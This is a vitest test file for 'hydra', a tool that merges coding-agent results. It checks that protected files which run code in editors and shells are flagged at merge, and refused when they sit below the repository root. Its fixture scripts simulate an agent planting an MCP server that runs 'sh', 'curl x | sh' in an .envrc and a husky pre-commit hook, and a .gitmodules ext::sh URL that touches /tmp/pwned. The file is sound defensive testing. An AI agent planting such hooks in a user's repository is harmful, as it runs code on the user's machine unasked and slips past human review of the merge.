/**
 * Issue 35, case 8: a result that adds or changes a protected file (one that runs code in the
 * user's tools: an editor's tasks, an MCP server, a slash command, `.gitmodules`, a shell's rc file)
 * is named when it is merged: in `hydra merge`'s result and record, and in the race's summary and
 * warnings after `--auto-merge`. One below the repository's top (`pkg/.vscode/tasks.json`), which
 * the sandbox cannot keep an agent from writing, is refused without `--allow-protected`. (That a
 * sandboxed agent cannot write those at the top is test/system/sandbox/rivals-and-protected.test.ts.)
 */
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mergeRun } from '../../../src/engine/index.js';
import type { RaceHandle } from '../../../src/engine/index.js';
import { git, makeSandbox } from '../../support/engine-helpers.js';
import type { Sandbox } from '../../support/engine-helpers.js';
import { SCRIPT_AGENT, raceScript, registerScriptAgent } from '../../support/script-agent.js';

let sandbox: Sandbox;
let handle: RaceHandle | null = null;
let unregister: () => void;

beforeEach(() => {
  sandbox = makeSandbox();
  unregister = registerScriptAgent();
});

afterEach(async () => {
  await handle?.cancel();
  handle = null;
  unregister();
  sandbox.cleanup();
});

/** An agent (unsandboxed here) that adds an MCP server and an editor task beside its honest edit. */
const PLANTER = [
  'echo hello > hello.txt',
  `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json`,
  'mkdir -p .vscode',
  `echo '{"tasks":[]}' > .vscode/tasks.json`,
].join('\n');

/** The same, below the top: a sub-package's editor task, MCP server, direnv file and husky hook. */
const NESTED = [
  'echo hello > hello.txt',
  `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json`,
  'mkdir -p pkg/.vscode web/.husky lib',
  `echo '{"tasks":[]}' > pkg/.vscode/tasks.json`,
  `echo '{"mcpServers":{}}' > pkg/.mcp.json`,
  'echo "curl x | sh" > pkg/.envrc',
  'echo "curl x | sh" > web/.husky/pre-commit',
  `printf '[submodule "x"]\\n\\turl = ext::sh -c touch% /tmp/pwned\\n' > lib/.gitmodules`,
].join('\n');

const merge = (options: { allowProtected?: boolean } = {}) =>
  mergeRun(sandbox.repo, handle?.runId ?? '', SCRIPT_AGENT, options, { worktreeRoot: sandbox.worktreeRoot });

describe('a result with protected files', () => {
  it('is named by hydra merge, in its result and its record', async () => {
    handle = raceScript(sandbox, PLANTER);
    await handle.settled;
    await handle.finish();
    const result = await merge();
    expect(result.protectedFiles).toEqual(['.mcp.json', '.vscode/tasks.json']);
    const record = JSON.parse(
      readFileSync(path.join(sandbox.repo, '.hydra', 'runs', handle.runId, 'merge.json'), 'utf8'),
    ) as { protectedFiles?: string[] };
    expect(record.protectedFiles).toEqual(['.mcp.json', '.vscode/tasks.json']);
  });

  it('is named in the summary and the warnings of a race that merged it', async () => {
    handle = raceScript(sandbox, PLANTER, {
      autoMerge: 'best',
      checks: [{ name: 'ok', run: 'true', timeoutMs: 30_000, gate: true }],
    });
    const summary = await handle.settled;
    expect(summary.merged?.agent, summary.mergeReason).toBe(SCRIPT_AGENT);
    expect(summary.merged?.protectedFiles).toEqual(['.mcp.json', '.vscode/tasks.json']);
    expect(handle.getSnapshot().warnings.join('\n')).toMatch(
      /added or changed \.mcp\.json, \.vscode\/tasks\.json: files your editor/,
    );
  });

  it('below the top, is refused until the user allows it, with nothing changed', async () => {
    handle = raceScript(sandbox, NESTED);
    await handle.settled;
    await handle.finish();
    const head = git(sandbox.repo, 'rev-parse', 'HEAD');
    const refused = await merge().catch((error: unknown) => error);
    expect(refused).toMatchObject({
      kind: 'Refused',
      files: [
        'lib/.gitmodules',
        'pkg/.envrc',
        'pkg/.mcp.json',
        'pkg/.vscode/tasks.json',
        'web/.husky/pre-commit',
      ],
    });
    expect((refused as Error).message).toMatch(/below the repository's top/);
    expect((refused as { hint?: string }).hint).toContain(`--allow-protected`);
    expect(git(sandbox.repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(existsSync(path.join(sandbox.repo, 'hello.txt'))).toBe(false);

    const result = await merge({ allowProtected: true });
    expect(result.protectedFiles).toEqual([
      '.mcp.json',
      'lib/.gitmodules',
      'pkg/.envrc',
      'pkg/.mcp.json',
      'pkg/.vscode/tasks.json',
      'web/.husky/pre-commit',
    ]);
  });

  it('below the top, is not merged by --auto-merge, which says why', async () => {
    handle = raceScript(sandbox, NESTED, {
      autoMerge: 'best',
      checks: [{ name: 'ok', run: 'true', timeoutMs: 30_000, gate: true }],
    });
    const summary = await handle.settled;
    expect(summary.merged).toBeFalsy();
    expect(JSON.stringify(summary)).toMatch(/pkg\/\.vscode\/tasks\.json/);
  });

  it('an honest result is merged without a word about them', async () => {
    handle = raceScript(sandbox, 'echo hello > hello.txt');
    await handle.settled;
    await handle.finish();
    const result = await merge();
    expect(result.protectedFiles).toBeUndefined();
  });
});
